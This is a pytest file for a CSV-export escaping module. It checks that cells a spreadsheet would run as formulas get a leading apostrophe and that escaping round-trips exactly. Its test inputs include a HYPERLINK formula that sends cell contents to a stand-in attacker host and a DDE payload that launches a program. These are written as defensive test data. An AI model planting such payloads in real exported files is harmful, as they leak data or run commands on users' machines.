"""Spreadsheet formulas in exported cells are written as text, and come back unchanged on import."""

import pytest

from toolkit.csv_safe import escape_cell, escape_row, unescape_cell


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("https://evil.example/?leak="&A2,"Klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_made_text(dangerous):
    assert escape_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Kleur je leven", "", "-3", "-2,5", "12.5", "a=b"])
def test_ordinary_text_and_plain_numbers_stay_as_they_are(harmless):
    assert escape_cell(harmless) == harmless


@pytest.mark.parametrize("value", ["=1+1", "'=1+1", "''x", "'gewoon", "gewoon", "-"])
def test_unescape_gives_back_exactly_what_was_exported(value):
    assert unescape_cell(escape_cell(value)) == value


def test_escape_row_keeps_non_text_values():
    assert escape_row(["=1", 3, None, "ok"]) == ["'=1", 3, None, "ok"]
